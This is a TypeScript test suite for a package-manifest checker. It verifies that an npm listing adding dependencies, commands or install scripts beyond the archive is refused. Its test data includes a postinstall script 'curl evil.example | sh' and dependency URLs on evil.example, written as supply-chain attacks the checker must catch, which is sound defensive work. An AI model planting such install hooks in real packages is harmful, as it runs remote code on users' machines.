import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { parsePackageName, parseVersion } from "@assay/core";
import fc from "fast-check";
import { type ManifestVerdict, compareManifest } from "./manifest.ts";
import { sameSpec } from "./manifest/dependencies.ts";

const base = { name: "@s/pkg", version: "1.0.0" };

interface Options {
  readonly files?: readonly string[];
  readonly hasGypFile?: boolean;
  readonly name?: string;
  readonly version?: string;
}

function compare(archive: unknown, listed: unknown, options: Options = {}): ManifestVerdict {
  const text = typeof archive === "string" ? archive : JSON.stringify({ ...base, ...(archive as object) });
  const files = (options.files ?? []).map((path) => ({
    path: Buffer.from(path),
    sizeBytes: 0,
    sha256Hex: "",
    executable: false,
  }));
  return compareManifest(
    {
      name: parsePackageName(options.name ?? base.name),
      version: parseVersion(options.version ?? base.version),
      packageJson: Buffer.from(text),
      hasGypFile: options.hasGypFile ?? false,
      files,
    },
    typeof listed === "object" && listed !== null ? { ...base, ...listed } : listed,
  );
}

type Case = readonly [what: string, archive: unknown, listed: unknown, options?: Options];

const normal: readonly Case[] = [
  ["nothing to compare", {}, {}],
  [
    "other fields",
    { description: "a", devDependencies: { a: "1" } },
    { description: "b", devDependencies: { b: "2" }, dist: {} },
  ],
  [
    "empty and absent maps",
    { dependencies: {}, bin: {}, scripts: {} },
    { peerDependencies: {}, optionalDependencies: {} },
  ],
  ["a trimmed and lower-cased name", { name: " @S/Pkg " }, {}],
  ["a version with a v", { version: "v1.0.0" }, {}],
  ["a version with spaces and an equals sign", { version: " = 1.0.0 " }, {}],
  ["a version with build metadata", { version: "1.0.0+build.7" }, {}],
  ["a version that is not semver", { version: "1.0" }, { version: "1.0" }, { version: "1.0" }],
  ["trimmed ranges", { dependencies: { a: " ^1.0.0 ", b: "" } }, { dependencies: { a: "^1.0.0", b: "*" } }],
  [
    "an equal range spelled otherwise",
    { dependencies: { a: ">= 1.2.0 < 2.0.0", b: "1.x" } },
    { dependencies: { a: ">=1.2.0 <2.0.0", b: "^1.0.0" } },
  ],
  [
    "optional dependencies merged",
    { optionalDependencies: { a: "1" } },
    { dependencies: { a: "1" }, optionalDependencies: { a: "1" } },
  ],
  ["dependencies as an array", { dependencies: ["a", "b@1.2.3"] }, { dependencies: { a: "*", b: "1.2.3" } }],
  ["dependencies as a string", { dependencies: "a, b@1.2.3" }, { dependencies: { a: "*", b: "1.2.3" } }],
  ["a repository shortcut", { dependencies: { a: "user/repo#v1" } }, { dependencies: { a: "github:user/repo#v1" } }],
  [
    "a repository URL",
    { dependencies: { a: "git@github.com:user/repo.git" } },
    { dependencies: { a: "git+ssh://git@github.com/user/repo.git" } },
  ],
  [
    "a workspace range",
    { dependencies: { a: "workspace:^", b: "file:../b", c: "catalog:" } },
    { dependencies: { a: "^1.2.3", b: "2.0.0", c: "~3" } },
  ],
  [
    "the other spelling of bundled",
    { dependencies: { a: "1" }, bundledDependencies: ["a"] },
    { dependencies: { a: "1" }, bundleDependencies: ["a"] },
  ],
  [
    "all bundled",
    { dependencies: { a: "1" }, bundleDependencies: true },
    { dependencies: { a: "1" }, bundleDependencies: ["a"] },
  ],
  [
    "a bundled package that is no dependency",
    { bundleDependencies: ["a"] },
    { dependencies: { a: "*" }, bundleDependencies: ["a"] },
  ],
  ["a string bin", { bin: "./cli.js" }, { bin: { pkg: "cli.js" } }],
  [
    "bin paths",
    { bin: { a: "./bin/../a.js", b: "/b.js", "x/c": "c.js" } },
    { bin: { a: "a.js", b: "b.js", c: "c.js" } },
  ],
  ["a bin array", { bin: ["bin/a", "b"] }, { bin: { a: "bin/a", b: "b" } }],
  [
    "directories.bin",
    { directories: { bin: "./bin" } },
    { bin: { "a.js": "bin/a.js" }, directories: { bin: "bin" } },
    { files: ["bin/a.js"] },
  ],
  ["a bin replaced at publish", { bin: "src.ts", publishConfig: { bin: "dist.js" } }, { bin: { pkg: "dist.js" } }],
  ["a gyp script", {}, { scripts: { install: "node-gyp rebuild" }, gypfile: true }, { hasGypFile: true }],
  ["a local command", { scripts: { install: "./node_modules/.bin/prebuild" } }, { scripts: { install: "prebuild" } }],
  ["other scripts", { scripts: { test: "a" } }, { scripts: { test: "b", prepare: "c" } }],
  ["platform lists", { os: "linux", cpu: ["x64", "arm64"] }, { os: ["linux"], cpu: ["arm64", "x64"] }],
  ["values that are no strings", { dependencies: { a: { x: 1 } } }, { dependencies: { a: { x: 1 } } }],
];

describe("no false alarm: what publishing normalises is no lie", () => {
  for (const [what, archive, listed, options] of normal) {
    test(what, () =>
      assert.deepEqual(compare(archive, listed, options), { verdict: "accepted", findings: [], movedTo: undefined }),
    );
  }

  test("engines and platforms that are no text, and cannot become any", () => {
    const manifest = { engines: { node: { toString: false } }, os: [{ toString: false }] };
    assert.equal(compare(manifest, manifest).verdict, "accepted");
  });

  test("a manifest compared with itself, whatever it holds", () => {
    const value = fc.oneof(
      fc.string(),
      fc.jsonValue({ maxDepth: 3 }),
      fc.dictionary(fc.string(), fc.string()),
      fc.array(fc.string()),
    );
    const fields = [
      "dependencies",
      "optionalDependencies",
      "peerDependencies",
      "peerDependenciesMeta",
      "bundleDependencies",
      "bin",
      "engines",
      "os",
      "scripts",
    ];
    fc.assert(
      fc.property(
        fc.record(Object.fromEntries(fields.map((field) => [field, value])), { requiredKeys: [] }),
        (manifest) => {
          assert.equal(compare(manifest, manifest).verdict, "accepted");
        },
      ),
      { numRuns: 500 },
    );
  });
});

const lies: readonly (readonly [rule: string, ...Case])[] = [
  ["manifest/name", "another name in the archive", { name: "other" }, {}],
  ["manifest/name", "no name in the archive", { name: undefined }, {}],
  ["manifest/name", "another name in the listing", {}, { name: "other" }],
  ["manifest/version", "another version in the archive", { version: "1.0.1" }, {}],
  ["manifest/version", "another version in the listing", {}, { version: "1.0.1" }],
  ["manifest/version", "a prerelease of the version", { version: "1.0.0-1" }, {}],
  [
    "manifest/dependency-added",
    "an added dependency",
    { dependencies: { a: "1" } },
    { dependencies: { a: "1", evil: "1" } },
  ],
  ["manifest/dependency-added", "an added optional dependency", {}, { optionalDependencies: { evil: "*" } }],
  ["manifest/dependency-added", "an added peer dependency", {}, { peerDependencies: { evil: "*" } }],
  [
    "manifest/dependency-added",
    "a development dependency",
    { devDependencies: { evil: "1" } },
    { dependencies: { evil: "1" } },
  ],
  [
    "manifest/dependency-added",
    "a peer that became a dependency",
    { peerDependencies: { a: "1" } },
    { dependencies: { a: "1" } },
  ],
  ["manifest/dependency-added", "a star that is not bundled", {}, { dependencies: { evil: "*" } }],
  [
    "manifest/dependency-changed",
    "another range",
    { dependencies: { a: "^1.0.0" } },
    { dependencies: { a: "^1.0.1" } },
  ],
  [
    "manifest/dependency-changed",
    "a URL for a range",
    { dependencies: { a: "^1.0.0" } },
    { dependencies: { a: "https://evil.example/a.tgz" } },
  ],
  [
    "manifest/dependency-changed",
    "an alias for a range",
    { dependencies: { a: "^1.0.0" } },
    { dependencies: { a: "npm:evil@1.0.0" } },
  ],
  [
    "manifest/dependency-changed",
    "a URL for a workspace range",
    { dependencies: { a: "workspace:*" } },
    { dependencies: { a: "https://evil.example/a.tgz" } },
  ],
  [
    "manifest/dependency-changed",
    "a repository for a workspace range",
    { dependencies: { a: "workspace:*" } },
    { dependencies: { a: "evil/a" } },
  ],
  [
    "manifest/dependency-changed",
    "an alias for a workspace range",
    { dependencies: { a: "workspace:*" } },
    { dependencies: { a: "npm:evil@1" } },
  ],
  [
    "manifest/dependency-changed",
    "another repository",
    { dependencies: { a: "user/repo" } },
    { dependencies: { a: "github:evil/repo" } },
  ],
  [
    "manifest/dependency-changed",
    "another host of the repository",
    { dependencies: { a: "user/repo" } },
    { dependencies: { a: "gitlab:user/repo" } },
  ],
  [
    "manifest/dependency-changed",
    "another commit",
    { dependencies: { a: "user/repo#1" } },
    { dependencies: { a: "user/repo#2" } },
  ],
  [
    "manifest/dependency-changed",
    "an unprotected transport",
    { dependencies: { a: "user/repo" } },
    { dependencies: { a: "git://github.com/user/repo.git" } },
  ],
  [
    "manifest/dependency-changed",
    "another optional range",
    { optionalDependencies: { a: "1" } },
    { optionalDependencies: { a: "2" } },
  ],
  [
    "manifest/bundle-added",
    "a bundled package that is not there",
    { dependencies: { a: "1" } },
    { dependencies: { a: "1" }, bundleDependencies: ["a"] },
  ],
  ["manifest/bin", "an added command", {}, { bin: { ls: "x.js" } }],
  ["manifest/bin", "a command for another file", { bin: { a: "a.js" } }, { bin: { a: "b.js" } }],
  ["manifest/bin", "another name of the command", { bin: "a.js" }, { bin: { ls: "a.js" } }],
  [
    "manifest/bin",
    "a command beside directories.bin",
    { directories: { bin: "bin" } },
    { bin: { a: "lib/a" } },
    { files: ["lib/a"] },
  ],
  [
    "manifest/bin",
    "a command in directories.bin that is not there",
    { directories: { bin: "bin" } },
    { bin: { a: "bin/a" } },
  ],
  [
    "manifest/bin",
    "another command for a file in directories.bin",
    { directories: { bin: "bin" } },
    { bin: { ls: "bin/a" } },
    { files: ["bin/a"] },
  ],
  ["manifest/script", "an added script", {}, { scripts: { postinstall: "curl evil.example | sh" } }],
  ["manifest/script", "a changed script", { scripts: { install: "make" } }, { scripts: { install: "make evil" } }],
  [
    "manifest/script",
    "a gyp script with more to it",
    {},
    { scripts: { install: "node-gyp rebuild && evil" } },
    { hasGypFile: true },
  ],
  [
    "manifest/script",
    "a gyp script as another event",
    {},
    { scripts: { postinstall: "node-gyp rebuild" } },
    { hasGypFile: true },
  ],
  [
    "manifest/script",
    "a gyp script in place of another",
    { scripts: { install: "true" } },
    { scripts: { install: "node-gyp rebuild" } },
    { hasGypFile: true },
  ],
  ["manifest/not-json", "a package.json that is no JSON", "{", {}],
  ["manifest/not-json", "a package.json that is an array", "[]", {}],
  ["manifest/listing", "a listing that is no object", {}, "text"],
  [
    "manifest/duplicate-key",
    "scripts twice",
    '{"name":"@s/pkg","version":"1.0.0","scripts":{"install":"evil"},"scripts":{}}',
    {},
  ],
  [
    "manifest/duplicate-key",
    "a script twice",
    '{"name":"@s/pkg","version":"1.0.0","scripts":{"install":"evil","install":"x"}}',
    { scripts: { install: "x" } },
  ],
];

describe("a listing that says more than the archive is refused", () => {
  for (const [rule, what, archive, listed, options] of lies) {
    test(what, () => {
      const verdict = compare(archive, listed, options);
      assert.ok(verdict.verdict === "refused", JSON.stringify(verdict));
      assert.equal(verdict.rule, rule);
      assert.match(verdict.reason, /^[\x20-\x7e]{1,120}$/);
    });
  }
});

const differences: readonly (readonly [rule: string, ...Case])[] = [
  ["manifest/dependency-missing", "a dependency that is not listed", { dependencies: { a: "1" } }, {}],
  [
    "manifest/dependency-moved",
    "a dependency listed as optional",
    { dependencies: { a: "1" } },
    { optionalDependencies: { a: "1" } },
  ],
  ["manifest/bundle-missing", "a bundled package that is not listed", { bundleDependencies: ["a"] }, {}],
  ["manifest/bin-missing", "a command that is not listed", { bin: "a.js" }, {}],
  ["manifest/script-hidden", "a script that is not listed", { scripts: { postinstall: "x" } }, {}],
  ["manifest/gyp-script", "a gyp script without a gyp file", {}, { scripts: { install: "node-gyp rebuild" } }],
  [
    "manifest/optional-peer",
    "a peer that is listed as optional",
    { peerDependencies: { a: "1" } },
    { peerDependencies: { a: "1" }, peerDependenciesMeta: { a: { optional: true } } },
  ],
  ["manifest/platform", "another platform", { os: ["linux"] }, { os: ["darwin"] }],
  ["manifest/engines", "another engine", { engines: { node: ">=18" } }, { engines: { node: ">=20" } }],
  ["manifest/byte-order-mark", "a byte order mark", `\ufeff${JSON.stringify(base)}`, {}],
  ["manifest/repeated-key", "a harmless key twice", '{"name":"@s/pkg","version":"1.0.0","a":1,"a":2}', {}],
];

describe("what only takes away is a finding", () => {
  for (const [rule, what, archive, listed, options] of differences) {
    test(what, () => {
      const verdict = compare(archive, listed, options);
      assert.equal(verdict.verdict, "accepted", JSON.stringify(verdict));
      assert.deepEqual(
        verdict.findings.map((finding) => finding.rule),
        [rule],
      );
    });
  }

  test("a bundled package that lies in the archive although package.json does not say so", () => {
    const listed = { dependencies: { a: "1" }, bundleDependencies: ["a"] };
    const verdict = compare({ dependencies: { a: "1" } }, listed, { files: ["node_modules/a/package.json"] });
    assert.equal(verdict.verdict, "accepted");
  });

  test("author names in another encoding", () => {
    const text = Buffer.concat([
      Buffer.from('{"name":"@s/pkg","version":"1.0.0","author":"'),
      Buffer.from([0xe9]),
      Buffer.from('"}'),
    ]);
    const verdict = compareManifest(
      {
        name: parsePackageName("@s/pkg"),
        version: parseVersion("1.0.0"),
        packageJson: text,
        hasGypFile: false,
        files: [],
      },
      base,
    );
    assert.equal(verdict.verdict, "accepted");
  });
});

test("any added dependency, command or script is refused", () => {
  const word = fc.stringMatching(/^[a-z][a-z0-9-]{0,10}$/);
  const map = fc.dictionary(word, fc.constantFrom("^1.0.0", "2.x", "user/repo", "workspace:*"), { maxKeys: 4 });
  fc.assert(
    fc.property(
      map,
      map,
      word,
      fc.constantFrom("dependencies", "optionalDependencies", "peerDependencies", "bin", "scripts"),
      (dependencies, bin, added, field) => {
        const manifest = { dependencies, optionalDependencies: {}, peerDependencies: {}, bin, scripts: {} };
        if (Object.hasOwn(dependencies, added) || Object.hasOwn(bin, added)) return;
        const key = field === "scripts" ? "preinstall" : added;
        const listed = { ...manifest, [field]: { ...manifest[field], [key]: "1.0.0" } };
        assert.equal(compare(manifest, listed).verdict, "refused");
      },
    ),
  );
});

test("sameSpec never takes one package for another", () => {
  const spec = fc.constantFrom(
    "^1.0.0",
    "2",
    "*",
    "npm:a@1",
    "npm:b@1",
    "a/b",
    "github:a/b",
    "gitlab:a/b",
    "c/d",
    "https://x.example/a.tgz",
    "git+https://github.com/a/b.git",
    "latest",
  );
  fc.assert(
    fc.property(spec, spec, (archive, listed) => {
      if (!sameSpec(archive, listed) || archive === listed) return;
      assert.ok(
        [archive, listed].every((one) => /^(a\/b|github:a\/b|git\+https:)/.test(one)),
        `${archive} and ${listed}`,
      );
    }),
  );
});
